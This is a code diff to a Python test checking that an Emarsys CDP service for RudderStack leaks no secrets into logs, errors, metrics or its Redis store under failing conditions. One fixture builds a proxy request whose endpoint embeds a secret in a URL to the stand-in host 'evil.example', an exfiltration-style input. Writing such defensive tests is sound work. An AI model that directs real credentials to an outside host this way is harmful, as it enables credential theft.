@@ -14,12 +14,14 @@ import pytest
 import redis
 import structlog
 from tests.support.app import BATCH, PROCESSOR, ROUTER, host_of
+from tests.support.delivery import PROXY_V0, PROXY_V1
 from tests.support.requests import call, destination, metadata, processor_request
 from tests.support.servers import flush
 from tests.support.world import make_service
 
 from emarsys_cdp.credentials import Secret
 from emarsys_cdp.document.compile import CompiledSpace
+from emarsys_cdp.hosts.rudderstack import deletion, proxy
 from emarsys_cdp.log import configure_logging
 from emarsys_cdp.steps import contacts
 from emarsys_cdp.store.redis import RedisStore
@@ -70,6 +72,23 @@ def token_endpoint(request: httpx.Request) -> httpx.Response:
     return httpx.Response(200, json={"access_token": TOKEN, "expires_in": 3600})
 
 
+def emarsys(request: httpx.Request) -> httpx.Response:
+    """Answer as an Emarsys that is ill, one way after the other, and repeats what it was sent with."""
+    if request.url.host == "auth.emarsys.net":
+        return token_endpoint(request)
+    seen = f"{request.headers.get('authorization')} {request.headers.get('x-wsse')}"
+    match len(request.content) % 5:
+        case 0:
+            raise httpx.ConnectError(f"no way with {seen}")
+        case 1:
+            raise httpx.ReadError(f"broke off after {seen}")
+        case 2:
+            return httpx.Response(503, text=f"overloaded, {seen}")
+        case 3:
+            return httpx.Response(400, json={"replyCode": 10001, "replyText": f"wrong: {seen}", "data": ""})
+    return httpx.Response(401, json={"replyCode": 1, "replyText": f"Credentials are invalid: {seen}", "data": ""})
+
+
 def break_with_the_settings(monkeypatch: pytest.MonkeyPatch) -> None:
     """Let a built-in step break on some calls, with an exception that has the settings in it."""
     decide = contacts._decide
@@ -110,15 +129,36 @@ def without_echo(response: httpx.Response) -> bytes:
         answer = json.loads(response.content)
     except ValueError:
         return response.content
-    for output in answer.get("output", []) if isinstance(answer, dict) else answer:
+    outputs = answer.get("output", []) if isinstance(answer, dict) else answer
+    for output in outputs if isinstance(outputs, list) else ():
         output.pop("destination", None)
         output.get("batchedRequest", output.get("output", {})).pop("headers", None)
     return json.dumps(answer, ensure_ascii=False).encode()
 
 
+def deliveries() -> list[tuple[str, bytes]]:
+    """Return what a host asks us to send and to delete, for every destination; five lengths, five ends."""
+    found: list[tuple[str, bytes]] = []
+    for number, (space, config) in enumerate(KEYS.items()):
+        for length in range(5):
+            form = {
+                "type": "REST", "method": "PUT",
+                "endpoint": "https://api.emarsys.net/api/v3/contact/?create_if_not_exists=1",
+                "headers": {"Authorization": f"Bearer {TOKEN}", "X-WSSE": f'UsernameToken Username="{S3CRET}"'},
+                "body": {"JSON": {"key_id": "3", "contacts": [{"3": "known@example.com", "1": "x" * length}]}},
+                "metadata": [metadata(9000 + 10 * number + length, space)],
+                "destinationConfig": config,
+            }  # fmt: skip
+            found.append((PROXY_V1, json.dumps(form).encode()))
+        found.append((PROXY_V0, json.dumps({**form, "endpoint": f"https://{S3CRET}@evil.example/"}).encode()))
+        job = {"destType": "emarsys", "config": config, "userAttributes": [{"email": "known@example.com"}]}
+        found.append(("/deleteUsers", json.dumps([job]).encode()))
+    return found
+
+
 async def life(url: str) -> tuple[list[httpx.Response], bytes]:
     """Live through a service's bad day; return every answer, and the metrics."""
-    client = httpx.AsyncClient(transport=httpx.MockTransport(token_endpoint))
+    client = httpx.AsyncClient(transport=httpx.MockTransport(emarsys))
     service = make_service(RedisStore(url), client=client, host_token=Secret(HOST_TOKEN), log_level="debug")
     token = {"authorization": f"Bearer {HOST_TOKEN}"}
     found = []
@@ -133,6 +173,9 @@ async def life(url: str) -> tuple[list[httpx.Response], bytes]:
                 [call("identify", 1, userId="u", traits={"email": "known@example.com"})], KEYS[space]
             )
             found.append(await host.send(PROCESSOR, body, token))
+        for path, body in deliveries():
+            found.append(await host.client.post(path, content=body, headers=token))
+        found.append(await host.client.get("/ready"))
         found.append(await host.client.get(f"/unknown/{quote('path')}", headers=token))
         metrics = (await host.client.get("/metrics")).content
     return found, metrics
@@ -153,6 +196,8 @@ def test_no_secret_reaches_a_log_an_error_a_metric_or_the_store(
     """At the lowest level of logging, with refused keys, broken steps and tracebacks that hold the settings."""
     flush(valkey_url)
     break_with_the_settings(monkeypatch)
+    for module in (proxy, deletion):
+        monkeypatch.setattr(module, "PATIENCE", 0.0)
     configure_logging("debug")
     structlog.configure(cache_logger_on_first_use=False)
     caplog.set_level(logging.DEBUG)
@@ -161,8 +206,15 @@ def test_no_secret_reaches_a_log_an_error_a_metric_or_the_store(
     rest = stored(valkey_url)
 
     # The day was as bad as intended, and the search finds what is there.
-    assert {200, 400, 500, 501, 503} >= {answer.status_code for answer in answers} >= {200, 400, 501, 503}
-    for happened in ("batch_failed", "call_refused", "request_refused", "request_postponed", "in breaking"):
+    assert {200, 400, 429, 500, 501, 503, 504} >= {answer.status_code for answer in answers} >= {200, 400, 501, 503}
+    for happened in (
+        "rows_not_delivered",
+        "batch_failed",
+        "call_refused",
+        "request_refused",
+        "request_postponed",
+        "in breaking",
+    ):
         assert happened in err
     assert any(b"known@example.com" in value for value in rest.values())
     assert any(b":x:" in key for key in rest)
